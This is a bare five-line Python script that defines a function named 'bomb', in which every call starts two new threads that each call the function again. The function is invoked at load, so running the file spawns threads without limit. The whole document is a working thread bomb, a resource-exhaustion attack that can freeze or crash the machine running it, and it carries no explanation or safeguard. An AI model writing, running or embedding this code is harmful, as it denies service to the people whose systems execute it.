import threading
def bomb():
    threading.Thread(target=bomb).start()
    threading.Thread(target=bomb).start()
bomb()
